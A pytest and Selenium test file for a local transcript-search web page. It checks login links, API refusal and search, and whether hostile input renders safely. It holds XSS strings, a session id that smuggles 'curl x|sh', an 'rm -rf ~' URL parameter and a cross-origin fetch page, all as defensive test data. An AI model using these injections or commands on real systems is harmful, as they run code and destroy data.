"""The web page in a real browser (Debian's headless Chromium, driven by Selenium).

The real importer runs as a daemon on the demo transcripts plus one session
whose prompts are hostile HTML; the browser signs in with the one-time link
``python -m streaming_importer web`` prints, searches, opens a session at its
hit and copies the resume command. The screenshots in ``docs/`` are taken here.
"""

from __future__ import annotations

import http.server
import json
import shutil
import signal
import stat
import sys
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any, ClassVar

import pytest
from selenium import webdriver
from selenium.common.exceptions import TimeoutException
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.remote.webdriver import WebDriver
from selenium.webdriver.support.ui import WebDriverWait

from streaming_importer.search import browse
from streaming_importer.sources.claude import parse_line
from streaming_importer.sources.messages import ParseLimits, file_context_for
from streaming_importer.state.privacy import Tombstones
from streaming_importer.store.edge import EdgeSink
from streaming_importer.surfaces.http.web_auth import LINK_TTL_S, SESSION_TTL_S, WebAuth

from ..conftest import DEMO, ROOT, run_cli, running_importer, settings_for, start_cli

CHROMIUM, CHROMEDRIVER = Path("/usr/bin/chromium"), Path("/usr/bin/chromedriver")
HOSTILE = [
    "<script>window.pwned = 1</script> hostile script prompt",
    '<img src=x onerror="window.pwned = 2"> hostile image prompt',
    "[hostile link](javascript:window.pwned=3) prompt",
]


#: A session id that would run a command if pasted unquoted into a shell.
HOSTILE_SESSION = "hostile;curl x|sh"


def hostile_session(folder: Path) -> None:
    lines = []
    for i, text in enumerate(HOSTILE):
        lines.append(
            {
                "type": "user",
                "uuid": f"00000000-0000-4000-8000-00000000000{i}",
                "sessionId": HOSTILE_SESSION,
                "cwd": "/home/dev/hostile",
                "timestamp": f"2026-10-0{i + 1}T10:00:00.000Z",
                "message": {"role": "user", "content": text},
            }
        )
    path = folder / "-home-dev-hostile" / "hostile-session.jsonl"
    path.parent.mkdir()
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))


@pytest.fixture(scope="module")
def daemon(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, str]]:
    tmp = tmp_path_factory.mktemp("page")
    shutil.copytree(DEMO, tmp / "conversations")
    hostile_session(tmp / "conversations")
    env = {"CONVERSATIONS_DIR": str(tmp / "conversations"), "STATE_DIR": str(tmp / "state")}
    with running_importer(env) as running:
        yield running


def login_url(env: dict[str, str]) -> str:
    out = run_cli("web", "--no-open", env=env)
    assert out.returncode == 0, out.stderr[-2000:]
    return out.stdout.strip()


@pytest.fixture
def browser(tmp_path: Path) -> Iterator[WebDriver]:
    if not (CHROMIUM.exists() and CHROMEDRIVER.exists()):
        pytest.fail(
            "Debian's chromium and chromium-driver are needed (apt-get install, see .ci/run)"
        )
    options = webdriver.ChromeOptions()
    options.binary_location = str(CHROMIUM)
    # The network log: what the page's requests were answered with.
    options.set_capability("goog:loggingPrefs", {"performance": "ALL"})
    for flag in (
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--window-size=1200,900",
        f"--user-data-dir={tmp_path / 'profile'}",
    ):
        options.add_argument(flag)
    driver = webdriver.Chrome(options=options, service=Service(str(CHROMEDRIVER)))
    try:
        yield driver
    finally:
        driver.quit()


def wait(driver: WebDriver, css: str, seconds: float = 20) -> Any:
    return WebDriverWait(driver, seconds).until(
        lambda d: (
            d.find_element(By.CSS_SELECTOR, css) if d.find_elements(By.CSS_SELECTOR, css) else None
        )
    )


def test_without_the_credential_the_api_answers_401(daemon: dict[str, str]) -> None:
    base = login_url(daemon).split("/login")[0]
    transcript = "path=-home-dev-shop-api/3b8f6a2e-5c41-4d7a-9e0b-2f6c8d1a4e57.jsonl"
    for path in (
        "/api/search?q=orders",
        "/api/status",
        "/api/sessions",
        f"/api/transcript?{transcript}",
        f"/api/export?{transcript}&format=html",
        "/login?token=forged",
    ):
        for headers in ({}, {"X-Session": "forged"}):
            request = urllib.request.Request(base + path, headers=headers)
            with pytest.raises(urllib.error.HTTPError) as refused:
                urllib.request.urlopen(request, timeout=10)
            refused.value.close()
            assert refused.value.code == 401, path
    # The page's own files hold no data: they are served to anyone, never cached.
    with urllib.request.urlopen(base + "/app.js", timeout=10) as page:
        assert page.headers["Cache-Control"] == "no-store"


def signed_in(url: str) -> dict[str, str]:
    """The headers a signed-in page sends: the credential the login answer handed over."""
    with urllib.request.urlopen(url, timeout=10) as answer:
        assert answer.headers.get("Set-Cookie") is None
        page = answer.read().decode()
    credential = page.split('<meta name="si-session" content="', 1)[1].split('"', 1)[0]
    return {"X-Session": credential}


def test_search_open_the_hit_and_copy_the_resume_command(
    daemon: dict[str, str], browser: WebDriver
) -> None:
    browser.execute_cdp_cmd(
        "Browser.grantPermissions",
        {"permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]},
    )
    browser.get(login_url(daemon))
    box = wait(browser, "#q")
    # The credential lives in the tab, not in a cookie; the used link left the address bar.
    assert browser.get_cookies() == []
    assert browser.execute_script("return sessionStorage.getItem('si-session')")
    assert "token" not in browser.current_url
    box.send_keys("which default did we pick for the orders table migration?")
    first = wait(browser, "#results li.hit .open")
    hit = browser.find_element(By.CSS_SELECTOR, "#results li.hit")
    assert "fulfillment_status" in hit.text
    assert "claude --resume 3b8f6a2e-5c41-4d7a-9e0b-2f6c8d1a4e57" in hit.text
    # The line that answers, beside the passage, with its place.
    lines = " ".join(p.text for p in hit.find_elements(By.CSS_SELECTOR, "p.highlight"))
    assert "default `'pending'`" in lines and "Assistant, 2026-09-14" in lines
    assert "no confident match" not in browser.find_element(By.ID, "search-info").text
    browser.save_screenshot(str(ROOT / "docs" / "web-search.png"))

    box.clear()
    box.send_keys("best hiking trails near the alps in winter")
    WebDriverWait(browser, 10).until(
        lambda d: d.find_element(By.ID, "search-info").text.startswith("no confident match")
    )
    assert browser.find_elements(By.CSS_SELECTOR, "#results li.hit.weak")
    box.clear()
    box.send_keys("which default did we pick for the orders table migration?")
    WebDriverWait(browser, 10).until(
        lambda d: (
            "no confident match" not in d.find_element(By.ID, "search-info").text
            and d.find_elements(By.CSS_SELECTOR, "#results li.hit .open")
        )
    )
    first = wait(browser, "#results li.hit .open")
    first.click()
    landed = wait(browser, "#messages li.msg.hit")
    assert "fulfillment_status" in landed.text
    assert browser.execute_script("return document.activeElement.classList.contains('hit')")
    assert browser.execute_script(
        "const r = arguments[0].getBoundingClientRect(); return r.top >= 0 && r.top < innerHeight",
        landed,
    )
    browser.save_screenshot(str(ROOT / "docs" / "web-session.png"))

    find = browser.find_element(By.ID, "find")
    find.send_keys("ACCESS EXCLUSIVE")
    find.submit()
    WebDriverWait(browser, 10).until(lambda d: "1 of" in d.find_element(By.ID, "find-info").text)
    marks = browser.find_elements(By.CSS_SELECTOR, "#messages mark.find")
    assert marks and all(m.text.lower() == "access exclusive" for m in marks)

    wait(browser, "#session-meta button.copy").click()
    copied = browser.execute_async_script(
        "navigator.clipboard.readText().then(arguments[0], e => arguments[0]('failed: ' + e))"
    )
    assert copied == "cd /home/dev/shop-api && claude --resume 3b8f6a2e-5c41-4d7a-9e0b-2f6c8d1a4e57"


def sessions_shown(browser: WebDriver, count: int) -> None:
    """Wait until the sessions view lists ``count`` sessions; else fail saying what it shows."""
    try:
        WebDriverWait(browser, 20).until(
            lambda d: len(d.find_elements(By.CSS_SELECTOR, "#sessions article")) == count
        )
    except TimeoutException:
        shown = browser.execute_script(
            "const s = document.getElementById('sessions');"
            "return s ? s.innerText : 'no sessions view: ' + document.body.innerText.slice(0, 300)"
        )
        pytest.fail(f"not {count} sessions at {browser.current_url}: {shown!r}")


def open_sessions(browser: WebDriver, link: str) -> None:
    """Sign in with ``link``, wait for the page, then open its sessions view as a person does."""
    browser.get(link)
    wait(browser, "#q")
    browser.find_element(By.ID, "nav-sessions").click()


def test_the_sessions_list_newest_first_by_project(
    daemon: dict[str, str], browser: WebDriver
) -> None:
    open_sessions(browser, login_url(daemon))
    sessions_shown(browser, 5)
    shown = browser.find_element(By.ID, "sessions").text
    assert "The CI job keeps failing on test_webhook_retry" in shown  # a first prompt
    assert "/home/dev/shop-api" in shown and "KB" in shown
    project = browser.find_element(By.ID, "sessions-project")
    project.send_keys("blog")
    project.submit()
    sessions_shown(browser, 1)
    assert "Atom feed" in browser.find_element(By.ID, "sessions").text


def test_hostile_transcript_text_renders_as_text(
    daemon: dict[str, str], browser: WebDriver
) -> None:
    browser.get(login_url(daemon))
    wait(browser, "#q").send_keys("hostile prompt")
    wait(browser, "#results li.hit")
    shown = browser.find_element(By.ID, "results").text
    assert "hostile" in shown
    # The session id is one quoted word of the command a person copies.
    quoted = "cd /home/dev/hostile && claude --resume 'hostile;curl x|sh'"
    assert quoted in shown
    browser.find_element(By.CSS_SELECTOR, "#results li.hit .open").click()
    wait(browser, "#messages li.msg")
    WebDriverWait(browser, 10).until(
        lambda d: len(d.find_elements(By.CSS_SELECTOR, "#messages li.msg")) == len(HOSTILE)
    )
    shown = browser.find_element(By.ID, "messages").text
    for text in HOSTILE:
        assert text in shown  # exactly as typed, tags and all
    assert browser.execute_script("return window.pwned === undefined")
    assert not browser.find_elements(
        By.CSS_SELECTOR, "main img, main script, main a[href^=javascript]"
    )
    # The command shown is the importer's, not one a link carries.
    assert wait(browser, "#session-meta code.resume").text == quoted
    path = browser.current_url.split("path=")[1].split("&")[0]
    browser.get(
        browser.current_url.split("#")[0]
        + f"#/session?path={path}&session=hostile%3Bcurl%20x%7Csh&resume=rm%20-rf%20~"
    )
    wait(browser, "#messages li.msg")
    assert wait(browser, "#session-meta code.resume").text == quoted
    assert "rm -rf" not in browser.find_element(By.TAG_NAME, "main").text


def test_serve_answers_the_page_from_a_state_folder_without_importing(
    tmp_path: Path, browser: WebDriver
) -> None:
    env = {"CONVERSATIONS_DIR": str(DEMO), "STATE_DIR": str(tmp_path / "state")}
    assert run_cli("--once", env=env).returncode == 0
    points = json.loads(run_cli("status", "--json", env=env).stdout)["points"]
    # Text stored under an older redaction rule set: the page's status line says so.
    sink = EdgeSink(tmp_path / "state" / "qdrant", "conversations")
    sink.open(None, create=False)
    sink.record_redaction("detect-secrets 1.4.0; own rules 0")
    sink.close()
    proc = start_cli("serve", env=env)
    try:
        deadline = time.monotonic() + 60
        while (out := run_cli("web", "--no-open", env=env)).returncode != 0:
            assert time.monotonic() < deadline, out.stderr[-2000:]
            time.sleep(0.3)  # polling a condition, with a deadline
        url = out.stdout.strip()
        headers = signed_in(url)
        query = url.split("/login")[0] + "/api/search?q=orders%20table%20default&limit=1"
        request = urllib.request.Request(query, headers=headers)
        with urllib.request.urlopen(request, timeout=30) as answer:
            hits = json.loads(answer.read())
        assert hits[0]["session_id"] == "3b8f6a2e-5c41-4d7a-9e0b-2f6c8d1a4e57"
        status = json.loads(run_cli("status", "--json", env=env).stdout)
        assert status["running"] and status["points"] == points
        browser.get(run_cli("web", "--no-open", env=env).stdout.strip())
        stale = wait(browser, "#status-redaction:not([hidden])")
        assert "stored text predates the redaction rules" in stale.text
        assert "redact-again" in stale.text
    finally:
        proc.send_signal(signal.SIGTERM)
        assert proc.wait(timeout=30) == 0


def test_a_long_session_loads_in_pages_and_nothing_is_lost_between_them(
    corpus: Path, tmp_path: Path
) -> None:
    rel = "-home-dev-spotter/4d5611e5-241a-462a-8d15-5122611a9569.jsonl"
    settings = settings_for(corpus, tmp_path)
    limits = ParseLimits(redact_secrets=True)
    context, everything = file_context_for(rel), []
    for line in (corpus / rel).read_bytes().split(b"\n"):
        result = parse_line(line, context, limits)
        context = result.context
        everything.extend(m.text for m in result.messages)
    pages, offset = [], 0
    while offset is not None:
        answer = browse.page(settings, Tombstones(), rel, offset, 40)
        assert len(answer["messages"]) <= 40
        pages.append([m["text"] for m in answer["messages"]])
        offset = answer["next"]
    assert len(pages) > 5
    assert [text for page in pages for text in page] == everything
    # A page asked with a window smaller than one line steps over it.
    big = max((corpus / rel).read_bytes().split(b"\n"), key=len)
    start = (corpus / rel).read_bytes().index(big)
    step = browse.page(settings, Tombstones(), rel, start, 5, window=len(big) // 2)
    assert step["messages"] == [] and step["next"] == start + len(big) // 2


def test_login_links_are_single_use_and_expire() -> None:
    now = [1000.0]
    auth = WebAuth(clock=lambda: now[0])
    token = auth.new_link_token()
    credential = auth.redeem(token)
    assert credential is not None and auth.allows(credential)
    assert auth.redeem(token) is None  # used
    late = auth.new_link_token()
    now[0] += LINK_TTL_S + 1
    assert auth.redeem(late) is None  # expired
    assert not auth.allows("forged") and not auth.allows(None)
    now[0] += SESSION_TTL_S
    assert not auth.allows(credential)  # the session ended


ATTACKER_PAGE = """<!doctype html><title>waiting</title><script>
fetch("http://127.0.0.1:%d/api/search?q=rate%%20limit", {credentials: "include"})
  .then(r => { document.title = "read " + r.status; })
  .catch(e => { document.title = "blocked"; });
</script>"""


_HOP_BY_HOP = {"host", "connection", "accept-encoding"}


class Attacker(http.server.BaseHTTPRequestHandler):
    """A page on another loopback port, recording what the browser sends it."""

    page = b""
    seen: ClassVar[list[dict[str, str]]] = []

    def do_GET(self) -> None:
        Attacker.seen.append(dict(self.headers))
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(Attacker.page)

    def log_message(self, *args: Any) -> None:
        return


def test_a_page_on_another_loopback_port_gets_nothing(
    daemon: dict[str, str], browser: WebDriver
) -> None:
    browser.get(login_url(daemon))
    wait(browser, "#q")
    port = int(browser.current_url.split(":")[2].split("/")[0])
    Attacker.page = (ATTACKER_PAGE % port).encode()
    attacker = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    try:
        browser.get(f"http://127.0.0.1:{attacker.server_address[1]}/")
        WebDriverWait(browser, 20).until(lambda d: d.title != "waiting")
        assert browser.title == "blocked"  # the browser gives the attacker nothing to read
        # What the browser sent for the attacker's call, from its network log.
        log = [json.loads(entry["message"])["message"] for entry in browser.get_log("performance")]
        ((request_id, url),) = {
            m["params"]["requestId"]: m["params"]["request"]["url"]
            for m in log
            if m["method"] == "Network.requestWillBeSent"
            and "/api/search" in m["params"]["request"]["url"]
        }.items()
        sent = next(
            m["params"]["headers"]
            for m in log
            if m["method"] == "Network.requestWillBeSentExtraInfo"
            and m["params"]["requestId"] == request_id
        )
        assert sent["Sec-Fetch-Site"] == "same-site" and "Cookie" not in sent
        # Sent again as the browser sent it, it is refused.
        replay = urllib.request.Request(
            url, headers={k: v for k, v in sent.items() if k.lower() not in _HOP_BY_HOP}
        )
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(replay, timeout=10)
        refused.value.close()
        assert refused.value.code == 403
        # Nothing the owner signed in with reached the other port either.
        assert Attacker.seen and not any("Cookie" in h or "X-Session" in h for h in Attacker.seen)
    finally:
        attacker.shutdown()
        attacker.server_close()


def test_web_opens_a_private_file_and_no_process_argument_holds_the_token(
    daemon: dict[str, str], tmp_path: Path, browser: WebDriver
) -> None:
    recorded = tmp_path / "argv.json"
    fake_browser = tmp_path / "browser.py"
    fake_browser.write_text(
        f"import json, sys; open({str(recorded)!r}, 'w').write(json.dumps(sys.argv))\n"
    )
    out = run_cli("web", env={**daemon, "BROWSER": f"{sys.executable} {fake_browser} %s"})
    assert out.returncode == 0, out.stderr[-2000:]
    token = out.stdout.strip().split("token=", 1)[1]
    argv = json.loads(recorded.read_text())
    assert not any(token in arg for arg in argv)
    opened = Path(argv[-1].removeprefix("file://"))
    assert stat.S_IMODE(opened.stat().st_mode) == 0o600 and token in opened.read_text()
    # Opened in a real browser, the file signs in.
    browser.get(opened.as_uri())
    wait(browser, "#q").send_keys("orders table default")
    assert "fulfillment_status" in wait(browser, "#results li.hit").text
